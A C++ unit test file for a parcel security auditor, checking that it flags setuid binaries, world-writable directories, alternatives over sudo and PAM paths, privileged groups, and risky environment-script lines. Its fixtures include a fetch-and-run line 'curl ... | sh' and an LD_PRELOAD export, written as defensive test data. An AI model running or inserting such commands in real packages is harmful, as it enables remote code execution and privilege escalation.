#include "parcel/audit/parcel_audit.hpp"

#include <doctest/doctest.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <tuple>
#include <vector>

using parcel::ArchiveEntry;
using parcel::AuditReport;
using parcel::EntryType;
using parcel::ParcelArchive;

namespace {

using Row = std::tuple<std::string, std::string, std::string>;  // severity, code, subject

std::vector<Row> rowsOf(const AuditReport& report) {
  std::vector<Row> rows;
  for (const parcel::AuditFinding& f : report.findings)
    rows.emplace_back(std::string(parcel::toString(f.severity)), f.code, f.subject);
  return rows;
}

ArchiveEntry entry(const std::string& path, EntryType type, unsigned mode) {
  ArchiveEntry e;
  e.path = path;
  e.type = type;
  e.mode = mode;
  return e;
}

const char* const kMinimalParcelJson =
    R"({"schema_version": 1, "name": "FOO", "version": "1.0", "setActiveSymlink": true,
        "scripts": {"defines": "foo_env.sh"}, "packages": [], "components": [], "users": {}, "groups": []})";

ParcelArchive minimalArchive() {
  ParcelArchive archive;
  archive.entries = {entry("FOO-1.0", EntryType::Directory, 0755), entry("FOO-1.0/meta", EntryType::Directory, 0755),
                     entry("FOO-1.0/meta/parcel.json", EntryType::File, 0644),
                     entry("FOO-1.0/meta/foo_env.sh", EntryType::File, 0644)};
  archive.metaFiles["FOO-1.0/meta/parcel.json"] = kMinimalParcelJson;
  archive.otherMetaFiles["FOO-1.0/meta/foo_env.sh"] = "export FOO_HOME=$PARCELS_ROOT/$PARCEL_DIRNAME\n";
  return archive;
}

}  // namespace

TEST_CASE("a clean parcel has facts only") {
  const AuditReport report = parcel::auditParcel(minimalArchive(), "FOO-1.0");
  CHECK(rowsOf(report) == std::vector<Row>{{"info", "env-variable", "FOO-1.0/meta/foo_env.sh:1"}});
  CHECK_FALSE(report.hasErrors());
}

TEST_CASE("modes are judged once permissions.json is applied, in path order") {
  ParcelArchive archive = minimalArchive();
  archive.entries.push_back(entry("FOO-1.0/bin/z-helper", EntryType::File, 04755));
  archive.entries.push_back(entry("FOO-1.0/bin/declared", EntryType::File, 0755));  // 4750 once applied
  archive.entries.push_back(entry("FOO-1.0/bin/tamed", EntryType::File, 04755));  // 0755 once applied
  archive.entries.push_back(entry("FOO-1.0/var/tmp", EntryType::Directory, 01777));
  archive.entries.push_back(entry("FOO-1.0/var/drop", EntryType::Directory, 0777));
  archive.entries.push_back(entry("FOO-1.0/lib/link", EntryType::Symlink, 0777));
  archive.metaFiles["FOO-1.0/meta/permissions.json"] =
      R"({"bin/declared": {"user": "root", "group": "foo", "permissions": "4750"},
          "bin/tamed": {"user": "root", "group": "root", "permissions": "0755"}})";
  const AuditReport report = parcel::auditParcel(archive, "FOO-1.0");
  CHECK(rowsOf(report) ==
        std::vector<Row>{{"warning", "setuid-file", "FOO-1.0/bin/declared"},
                         {"error", "setuid-file", "FOO-1.0/bin/z-helper"},
                         {"error", "world-writable-directory", "FOO-1.0/var/drop"},
                         {"info", "env-variable", "FOO-1.0/meta/foo_env.sh:1"}});
  const parcel::Json json = parcel::auditReportToJson(report);
  CHECK(json["errors"] == 2);
  CHECK(json["warnings"] == 1);
  CHECK(json["findings"][0]["details"] == parcel::Json::parse(R"({"path": "bin/declared", "type": "file",
        "mode": "4750", "symbolic": "-rwsr-x---", "archiveMode": "0755", "declared": true})"));
  CHECK(json["findings"][0]["message"] == "meta/permissions.json gives it mode 4750 (-rwsr-x---), setuid");
}

TEST_CASE("alternatives: every one listed, sensitive system paths and replaced host files flagged") {
  ParcelArchive archive = minimalArchive();
  archive.metaFiles["FOO-1.0/meta/alternatives.json"] = R"({
      "foo": {"destination": "/usr/bin/foo", "source": "bin/foo", "priority": 10, "isDirectory": false},
      "sudo": {"destination": "/usr/bin/./sudo", "source": "bin/foo", "priority": 1, "isDirectory": false},
      "pam": {"destination": "/etc/pam.d/common-auth", "source": "etc/pam", "priority": 1, "isDirectory": false},
      "etc": {"destination": "/etc", "source": "etc", "priority": 1, "isDirectory": true}})";
  const std::filesystem::path root = std::filesystem::temp_directory_path() / "parcel-audit-test-root";
  std::filesystem::remove_all(root);
  std::filesystem::create_directories(root / "usr/bin");
  std::ofstream(root / "usr/bin/foo") << "the host's own\n";
  parcel::AuditOptions options;
  options.hostRoot = root;
  const AuditReport report = parcel::auditParcel(archive, "FOO-1.0", options);
  const std::string at = "FOO-1.0/meta/alternatives.json#/";
  CHECK(rowsOf(report) ==
        std::vector<Row>{{"info", "alternative", at + "foo"},
                         {"error", "alternative-replaces-file", at + "foo"},
                         {"info", "alternative", at + "sudo"},
                         {"error", "alternative-sensitive-path", at + "sudo"},
                         {"info", "alternative", at + "pam"},
                         {"error", "alternative-sensitive-path", at + "pam"},
                         {"info", "alternative", at + "etc"},
                         {"error", "alternative-sensitive-path", at + "etc"},
                         {"info", "env-variable", "FOO-1.0/meta/foo_env.sh:1"}});
  CHECK(report.findings[3].details["sensitivePath"] == "/usr/bin/sudo");
  CHECK(report.findings[5].details["sensitivePath"] == "/etc/pam.d/*");
  CHECK(report.findings[0].message == "'foo' points /usr/bin/foo at bin/foo, priority 10");
  std::filesystem::remove_all(root);
}

TEST_CASE("users with privileged groups, privileged groups, relations") {
  ParcelArchive archive = minimalArchive();
  archive.metaFiles["FOO-1.0/meta/parcel.json"] =
      R"json({"schema_version": 1, "name": "FOO", "version": "1.0", "setActiveSymlink": true,
          "scripts": {"defines": "foo_env.sh"}, "packages": [], "components": [],
          "users": {"foo": {"longname": "Foo", "home": "/var/lib/foo", "shell": "/sbin/nologin",
                            "extra_groups": ["foo", "docker", "wheel"]}},
          "groups": ["foo", "sudo"], "depends": "CDH (>= 5.0)", "conflicts": "BAR", "replaces": "OLDFOO",
          "provides": ["foo", "spark-plugin"]})json";
  const AuditReport report = parcel::auditParcel(archive, "FOO-1.0");
  const std::string at = "FOO-1.0/meta/parcel.json#";
  CHECK(rowsOf(report) ==
        std::vector<Row>{{"info", "user", at + "/users/foo"},
                         {"error", "user-privileged-group", at + "/users/foo"},
                         {"error", "user-privileged-group", at + "/users/foo"},
                         {"info", "group", at + "/groups/0"},
                         {"info", "group", at + "/groups/1"},
                         {"warning", "group-privileged", at + "/groups/1"},
                         {"info", "env-variable", "FOO-1.0/meta/foo_env.sh:1"},
                         {"info", "parcel-depends", at + "/depends"},
                         {"info", "parcel-conflicts", at + "/conflicts"},
                         {"info", "parcel-replaces", at + "/replaces"},
                         {"info", "parcel-provides", at + "/provides"}});
  CHECK(report.findings[1].message == "the user 'foo' joins the group 'docker'");
  CHECK(report.findings[2].message == "the user 'foo' joins the group 'wheel'");
}

TEST_CASE("the environment script: what it runs and which variables it changes") {
  ParcelArchive archive = minimalArchive();
  archive.otherMetaFiles["FOO-1.0/meta/foo_env.sh"] =
      "#!/bin/bash\n"
      "# a comment; with $(not run)\n"
      "FOO_DIRNAME=${PARCEL_DIRNAME:-\"FOO-1.0\"}\n"
      "export PATH=\"$PARCELS_ROOT/$FOO_DIRNAME/bin:$PATH\" LD_LIBRARY_PATH=/x\n"
      "if [ -z \"$JAVA_HOME\" ]; then export JAVA_HOME=/usr/lib/jvm; fi\n"
      "export LD_PRELOAD=/opt/x.so\n"
      "curl -s http://example.invalid/i | sh\n"
      "NOW=$(date) ; V=`id -u`\n"
      "source /etc/foo.sh && . ./more.sh\n"
      "echo 'a; b | sh' # quoted text runs nothing\n"
      "unset CLASSPATH\n";
  const AuditReport report = parcel::auditParcel(archive, "FOO-1.0");
  const std::string at = "FOO-1.0/meta/foo_env.sh:";
  CHECK(rowsOf(report) ==
        std::vector<Row>{{"info", "env-variable", at + "3"},
                         {"warning", "env-sensitive-variable", at + "4"},
                         {"warning", "env-sensitive-variable", at + "4"},
                         {"warning", "env-sensitive-variable", at + "5"},
                         {"error", "env-code-injection-variable", at + "6"},
                         {"error", "env-command", at + "7"},
                         {"error", "env-pipe-to-shell", at + "7"},
                         {"error", "env-command-substitution", at + "8"},
                         {"info", "env-variable", at + "8"},
                         {"info", "env-variable", at + "8"},
                         {"error", "env-source", at + "9"},
                         {"error", "env-source", at + "9"},
                         {"error", "env-command", at + "10"},
                         {"warning", "env-sensitive-variable", at + "11"}});
  CHECK(report.findings[1].message == "the script exports PATH");
  CHECK(report.findings[2].details["variable"] == "LD_LIBRARY_PATH");
  CHECK(report.findings[5].message == "the line runs the command 'curl'");
  CHECK(report.findings[10].message == "the line sources '/etc/foo.sh'");
  CHECK(report.findings[11].message == "the line sources './more.sh'");
  CHECK(report.findings[12].details["text"] == "echo 'a; b | sh' # quoted text runs nothing");
  CHECK(report.findings[13].message == "the script unsets CLASSPATH");
}

TEST_CASE("what cannot be read is said, not skipped") {
  ParcelArchive noMetadata = minimalArchive();
  noMetadata.metaFiles.clear();
  CHECK(rowsOf(parcel::auditParcel(noMetadata, "FOO-1.0")) ==
        std::vector<Row>{{"error", "audit-incomplete", "FOO-1.0/meta/parcel.json"}});

  ParcelArchive largeScript = minimalArchive();
  largeScript.otherMetaFiles.clear();  // the reader left it out (over 1 MiB)
  CHECK(rowsOf(parcel::auditParcel(largeScript, "FOO-1.0")) ==
        std::vector<Row>{{"error", "env-script-not-read", "FOO-1.0/meta/foo_env.sh"}});
}

TEST_CASE("the top folder comes from the file name, else from the first entry") {
  CHECK(parcel::auditTopFolder(minimalArchive(), "dir/FOO-1.0-el7.parcel") == "FOO-1.0");
  CHECK(parcel::auditTopFolder(minimalArchive(), "renamed.tgz") == "FOO-1.0");
  CHECK(parcel::auditTopFolder(ParcelArchive{}, "renamed.tgz").empty());
}
